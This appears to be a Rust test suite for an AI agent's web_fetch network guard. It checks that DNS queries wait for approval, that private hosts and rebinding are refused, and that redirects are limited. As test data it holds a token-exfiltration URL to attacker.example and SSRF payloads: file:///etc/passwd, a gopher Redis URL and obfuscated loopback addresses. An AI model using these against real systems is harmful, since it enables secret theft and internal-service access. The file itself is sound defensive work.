//! web_fetch's network guard (issue 12): no DNS before a call is allowed,
//! one resolution per hop pinned for the connection, every redirect
//! checked. Real HTTP servers on loopback; names resolve through an
//! injected resolver, and 127.0.0.2 plays the "public internet".

use std::collections::HashMap;
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::State;
use axum::http::{StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use futures::future::BoxFuture;
use gd_core::approval::{Answer, ApprovalPolicy, Confirmations, Verdict};
use gd_core::chat::ToolCallRequest;
use gd_core::events::EventSink;
use gd_core::scheduler::Scheduler;
use gd_core::tools::web_fetch::{Network, Resolver, WebFetch, special_purpose};
use gd_core::tools::{LlmContent, Tool, ToolContext, ToolRegistry, ToolResult};
use gd_protocol::{ConfirmationDetails, ConfirmationOutcome, Event, ToolCallStatus};
use pretty_assertions::assert_eq;
use serde_json::{Value, json};

const PUBLIC: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

/// Answers names from a table (one answer per query, the last repeating)
/// and records every query.
#[derive(Default)]
struct FakeDns {
    answers: Mutex<HashMap<String, Vec<Vec<IpAddr>>>>,
    queries: Mutex<Vec<String>>,
}

impl FakeDns {
    fn with(entries: &[(&str, &[&[Ipv4Addr]])]) -> Arc<Self> {
        let dns = Self::default();
        for (name, answers) in entries {
            dns.answers.lock().unwrap().insert(
                (*name).to_owned(),
                answers
                    .iter()
                    .map(|a| a.iter().map(|ip| IpAddr::V4(*ip)).collect())
                    .collect(),
            );
        }
        Arc::new(dns)
    }

    fn queries(&self) -> Vec<String> {
        self.queries.lock().unwrap().clone()
    }
}

impl Resolver for FakeDns {
    fn lookup<'a>(&'a self, host: &'a str, _port: u16) -> BoxFuture<'a, io::Result<Vec<IpAddr>>> {
        Box::pin(async move {
            self.queries.lock().unwrap().push(host.to_owned());
            let mut answers = self.answers.lock().unwrap();
            let queue = answers
                .get_mut(host)
                .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no such name"))?;
            Ok(if queue.len() > 1 {
                queue.remove(0)
            } else {
                queue[0].clone()
            })
        })
    }
}

/// A web_fetch whose names resolve through `dns` and for which 127.0.0.2
/// counts as public.
fn web_fetch(dns: Arc<FakeDns>) -> Arc<WebFetch> {
    Arc::new(WebFetch::with_network(Network {
        resolver: dns,
        classifier: Arc::new(|ip| {
            if ip == IpAddr::V4(PUBLIC) {
                None
            } else {
                special_purpose(ip)
            }
        }),
    }))
}

/// What a site serves at a path.
#[derive(Clone)]
enum Reply {
    Page(&'static str),
    Redirect(String),
}

/// A local web server; records the paths requested.
struct Site {
    addr: SocketAddr,
    routes: Arc<Mutex<HashMap<String, Reply>>>,
    hits: Arc<Mutex<Vec<String>>>,
}

type SiteState = (Arc<Mutex<HashMap<String, Reply>>>, Arc<Mutex<Vec<String>>>);

async fn handle(State((routes, hits)): State<SiteState>, uri: Uri) -> Response {
    hits.lock().unwrap().push(uri.path().to_owned());
    match routes.lock().unwrap().get(uri.path()).cloned() {
        Some(Reply::Page(text)) => (
            [(header::CONTENT_TYPE, "text/html")],
            format!("<html><body><p>{text}</p></body></html>"),
        )
            .into_response(),
        Some(Reply::Redirect(to)) => (StatusCode::FOUND, [(header::LOCATION, to)]).into_response(),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

impl Site {
    async fn start(addr: SocketAddr) -> io::Result<Self> {
        let listener = tokio::net::TcpListener::bind(addr).await?;
        let addr = listener.local_addr()?;
        let routes = Arc::new(Mutex::new(HashMap::new()));
        let hits = Arc::new(Mutex::new(Vec::new()));
        let app = Router::new()
            .fallback(handle)
            .with_state((routes.clone(), hits.clone()));
        tokio::spawn(async move { axum::serve(listener, app).await });
        Ok(Self { addr, routes, hits })
    }

    /// A "public" site on 127.0.0.2.
    async fn public() -> Self {
        Self::start((PUBLIC, 0).into()).await.unwrap()
    }

    /// A loopback service on 127.0.0.1 that must never be reached.
    async fn secret() -> Self {
        let site = Self::start((Ipv4Addr::LOCALHOST, 0).into()).await.unwrap();
        site.serve("/secret", Reply::Page("TOP SECRET"));
        site
    }

    fn serve(&self, path: &str, reply: Reply) {
        self.routes.lock().unwrap().insert(path.to_owned(), reply);
    }

    fn port(&self) -> u16 {
        self.addr.port()
    }

    fn hits(&self) -> Vec<String> {
        self.hits.lock().unwrap().clone()
    }
}

fn text(result: &ToolResult) -> String {
    match &result.llm_content {
        LlmContent::Text(text) => text.clone(),
        LlmContent::Parts(parts) => format!("{parts:?}"),
    }
}

/// Runs web_fetch directly; `approved` as when the user approved this call.
async fn fetch(tool: &WebFetch, url: &str, approved: bool) -> ToolResult {
    let dir = tempfile::tempdir().unwrap();
    let mut ctx = ToolContext::new(vec![dir.path().to_owned()]);
    ctx.confirmed = approved;
    tool.execute(json!({ "prompt": format!("Summarise {url}") }), &ctx)
        .await
}

/// A refusal for the model, mentioning `needle`.
fn assert_refused(result: &ToolResult, needle: &str) {
    assert!(
        result.error.is_some(),
        "expected an error: {}",
        text(result)
    );
    let message = text(result);
    assert!(message.contains("refused"), "{message}");
    assert!(message.contains(needle), "{message}");
}

struct FixedPolicy(Verdict);

impl ApprovalPolicy for FixedPolicy {
    fn decide(&self, _tool: &dyn Tool, _args: &Value) -> Verdict {
        self.0.clone()
    }
}

/// Runs one web_fetch call through the scheduler, declining any
/// confirmation; returns the call's status and the events seen.
async fn schedule(
    dns: Arc<FakeDns>,
    verdict: Verdict,
    prompt: &str,
) -> (ToolCallStatus, Vec<Event>) {
    let mut registry = ToolRegistry::new();
    registry.register(web_fetch(dns));
    let confirmations = Arc::new(Confirmations::default());
    let scheduler = Scheduler::new(
        Arc::new(registry),
        Arc::new(FixedPolicy(verdict)),
        confirmations.clone(),
    );
    let dir = tempfile::tempdir().unwrap();
    let ctx = ToolContext::new(vec![dir.path().to_owned()]);
    let (sink, mut rx) = EventSink::new();
    let answering = tokio::spawn(async move {
        let mut seen = Vec::new();
        while let Some(event) = rx.recv().await {
            if let Event::ToolConfirmationRequest { call_id, .. } = &event {
                let cancel = Answer {
                    outcome: ConfirmationOutcome::Cancel,
                    content: None,
                    hunks: None,
                    plan: None,
                };
                assert!(confirmations.answer(call_id, cancel));
            }
            seen.push(event);
        }
        seen
    });
    let call = ToolCallRequest {
        call_id: "c1".into(),
        name: "web_fetch".into(),
        args: json!({ "prompt": prompt }),
    };
    let outcome = scheduler.run(&[call], &ctx, &sink).await;
    drop(sink);
    let events = answering.await.unwrap();
    (outcome.completed[0].status, events)
}

const LEAK: &str = "Summarise https://s3cr3t-token.attacker.example/ please";

#[tokio::test]
async fn a_denied_call_makes_no_dns_query() {
    let dns = FakeDns::with(&[("s3cr3t-token.attacker.example", &[&[PUBLIC]])]);
    let (status, _) = schedule(dns.clone(), Verdict::Deny(None), LEAK).await;
    assert_eq!(status, ToolCallStatus::Error);
    assert_eq!(dns.queries(), Vec::<String>::new());
}

#[tokio::test]
async fn a_declined_call_makes_no_dns_query() {
    let dns = FakeDns::with(&[("s3cr3t-token.attacker.example", &[&[PUBLIC]])]);
    let (status, events) = schedule(dns.clone(), Verdict::Ask, LEAK).await;
    assert_eq!(status, ToolCallStatus::Cancelled);
    assert!(
        events
            .iter()
            .any(|e| matches!(e, Event::ToolConfirmationRequest { .. })),
        "the user was asked"
    );
    assert_eq!(dns.queries(), Vec::<String>::new());
}

#[tokio::test]
async fn the_confirmation_warns_about_visibly_private_hosts_without_resolving() {
    let dns = FakeDns::with(&[]);
    let tool = web_fetch(dns.clone());
    let dir = tempfile::tempdir().unwrap();
    let ctx = ToolContext::new(vec![dir.path().to_owned()]);
    let args = json!({"prompt": "Compare http://2130706433:8080/ with https://docs.example.org/ and http://localhost:3000/"});
    let Some(ConfirmationDetails::Info { prompt, .. }) = tool.prepare(&args, &ctx).await.unwrap()
    else {
        panic!("an info confirmation");
    };
    assert!(prompt.contains("private or local network"), "{prompt}");
    assert!(
        prompt.contains("http://2130706433:8080/ (loopback"),
        "{prompt}"
    );
    assert!(
        prompt.contains("http://localhost:3000/ (loopback"),
        "{prompt}"
    );
    assert!(!prompt.contains("docs.example.org/ ("), "{prompt}");
    assert_eq!(dns.queries(), Vec::<String>::new());
}

#[tokio::test]
async fn a_public_url_is_fetched_with_one_resolution_per_hop() {
    let site = Site::public().await;
    let port = site.port();
    site.serve(
        "/start",
        Reply::Redirect(format!("http://docs.test:{port}/page")),
    );
    site.serve("/page", Reply::Page("Public page"));
    let dns = FakeDns::with(&[("site.test", &[&[PUBLIC]]), ("docs.test", &[&[PUBLIC]])]);
    let result = fetch(
        &web_fetch(dns.clone()),
        &format!("http://site.test:{port}/start"),
        false,
    )
    .await;
    assert_eq!(result.error, None, "{}", text(&result));
    assert!(text(&result).contains("Public page"), "{}", text(&result));
    assert_eq!(dns.queries(), vec!["site.test", "docs.test"]);
    assert_eq!(site.hits(), vec!["/start", "/page"]);
}

#[tokio::test]
async fn redirects_to_visibly_private_hosts_are_refused_even_when_approved() {
    let secret = Site::secret().await;
    let site = Site::public().await;
    let s = secret.port();
    let dns = FakeDns::with(&[("site.test", &[&[PUBLIC]])]);
    let tool = web_fetch(dns);
    for target in [
        format!("http://127.0.0.1:{s}/secret"),
        format!("http://[::1]:{s}/secret"),
        format!("http://localhost:{s}/secret"),
        format!("http://2130706433:{s}/secret"),
        format!("http://0x7f.1:{s}/secret"),
    ] {
        site.serve("/start", Reply::Redirect(target.clone()));
        let url = format!("http://site.test:{}/start", site.port());
        let result = fetch(&tool, &url, true).await;
        assert_refused(&result, "it redirects to http://");
        assert!(
            text(&result).contains("private or local network"),
            "{target}: {}",
            text(&result)
        );
    }
    assert_eq!(secret.hits(), Vec::<String>::new());
}

#[tokio::test]
async fn a_redirect_to_a_name_resolving_privately_is_refused_even_when_approved() {
    let secret = Site::secret().await;
    let site = Site::public().await;
    site.serve(
        "/start",
        Reply::Redirect(format!("http://internal.test:{}/secret", secret.port())),
    );
    let dns = FakeDns::with(&[
        ("site.test", &[&[PUBLIC]]),
        ("internal.test", &[&[Ipv4Addr::LOCALHOST]]),
    ]);
    let url = format!("http://site.test:{}/start", site.port());
    let result = fetch(&web_fetch(dns.clone()), &url, true).await;
    assert_refused(&result, "internal.test resolves to 127.0.0.1");
    assert_eq!(dns.queries(), vec!["site.test", "internal.test"]);
    assert_eq!(secret.hits(), Vec::<String>::new());
}

#[tokio::test]
async fn a_name_resolving_privately_is_refused_even_when_approved() {
    let secret = Site::secret().await;
    let dns = FakeDns::with(&[("intranet.test", &[&[PUBLIC, Ipv4Addr::LOCALHOST]])]);
    let url = format!("http://intranet.test:{}/secret", secret.port());
    let result = fetch(&web_fetch(dns), &url, true).await;
    assert_refused(&result, "resolves to 127.0.0.1");
    assert_eq!(secret.hits(), Vec::<String>::new());
}

/// A "public" site and a secret one on the same port of 127.0.0.2 and
/// 127.0.0.1, so a name can point at either.
async fn twin_sites() -> (Site, Site) {
    for _ in 0..20 {
        let public = Site::public().await;
        if let Ok(secret) = Site::start((Ipv4Addr::LOCALHOST, public.port()).into()).await {
            secret.serve("/page", Reply::Page("TOP SECRET"));
            return (public, secret);
        }
    }
    panic!("no port free on both 127.0.0.1 and 127.0.0.2");
}

#[tokio::test]
async fn a_rebinding_name_is_connected_to_the_checked_address_only() {
    let (public, secret) = twin_sites().await;
    public.serve("/page", Reply::Page("Public page"));
    // First answer public, every later one loopback.
    let dns = FakeDns::with(&[("rebind.test", &[&[PUBLIC], &[Ipv4Addr::LOCALHOST]])]);
    let url = format!("http://rebind.test:{}/page", public.port());
    let result = fetch(&web_fetch(dns.clone()), &url, false).await;
    assert_eq!(result.error, None, "{}", text(&result));
    assert!(text(&result).contains("Public page"), "{}", text(&result));
    assert_eq!(dns.queries(), vec!["rebind.test"]);
    assert_eq!(public.hits(), vec!["/page"]);
    assert_eq!(secret.hits(), Vec::<String>::new());
}

#[tokio::test]
async fn a_name_rebinding_between_redirect_hops_is_refused() {
    let (public, secret) = twin_sites().await;
    public.serve("/hop", Reply::Redirect("/page".into()));
    let dns = FakeDns::with(&[("rebind.test", &[&[PUBLIC], &[Ipv4Addr::LOCALHOST]])]);
    let url = format!("http://rebind.test:{}/hop", public.port());
    let result = fetch(&web_fetch(dns.clone()), &url, true).await;
    assert_refused(&result, "rebind.test resolves to 127.0.0.1");
    assert_eq!(dns.queries(), vec!["rebind.test", "rebind.test"]);
    assert_eq!(secret.hits(), Vec::<String>::new());
}

#[tokio::test]
async fn five_redirects_are_followed_and_a_sixth_is_refused() {
    let site = Site::public().await;
    for n in 0..6 {
        site.serve(&format!("/r{n}"), Reply::Redirect(format!("/r{}", n + 1)));
    }
    site.serve("/r6", Reply::Page("End of the chain"));
    let dns = FakeDns::with(&[("site.test", &[&[PUBLIC]])]);
    let tool = web_fetch(dns);
    let base = format!("http://site.test:{}", site.port());
    let five = fetch(&tool, &format!("{base}/r1"), false).await;
    assert!(text(&five).contains("End of the chain"), "{}", text(&five));
    site.hits.lock().unwrap().clear();
    let six = fetch(&tool, &format!("{base}/r0"), false).await;
    assert!(six.error.is_some());
    assert!(text(&six).contains("too many redirects"), "{}", text(&six));
    assert_eq!(site.hits(), vec!["/r0", "/r1", "/r2", "/r3", "/r4", "/r5"]);
}

#[tokio::test]
async fn redirects_to_other_schemes_are_refused() {
    let site = Site::public().await;
    let dns = FakeDns::with(&[("site.test", &[&[PUBLIC]])]);
    let tool = web_fetch(dns);
    for target in [
        "file:///etc/passwd",
        "ftp://site.test/x",
        "gopher://127.0.0.1:6379/_INFO",
    ] {
        site.serve("/start", Reply::Redirect(target.into()));
        let url = format!("http://site.test:{}/start", site.port());
        let result = fetch(&tool, &url, true).await;
        assert_refused(&result, "only http and https redirects are followed");
    }
}

#[tokio::test]
async fn a_visibly_private_url_needs_the_users_approval_of_this_call() {
    let secret = Site::secret().await;
    secret.serve("/", Reply::Redirect("/secret".into()));
    let dns = FakeDns::with(&[]);
    let tool = web_fetch(dns.clone());
    for url in [
        format!("http://127.0.0.1:{}/", secret.port()),
        format!("http://2130706433:{}/secret", secret.port()),
        format!("http://localhost:{}/secret", secret.port()),
    ] {
        let refused = fetch(&tool, &url, false).await;
        assert_refused(&refused, "private or local network");
    }
    assert_eq!(secret.hits(), Vec::<String>::new());
    // Approved: fetched directly, same-origin redirects included.
    let approved = fetch(&tool, &format!("http://127.0.0.1:{}/", secret.port()), true).await;
    assert!(
        text(&approved).contains("TOP SECRET"),
        "{}",
        text(&approved)
    );
    let approved = fetch(
        &tool,
        &format!("http://localhost:{}/secret", secret.port()),
        true,
    )
    .await;
    assert!(
        text(&approved).contains("TOP SECRET"),
        "{}",
        text(&approved)
    );
    assert_eq!(dns.queries(), Vec::<String>::new());
}
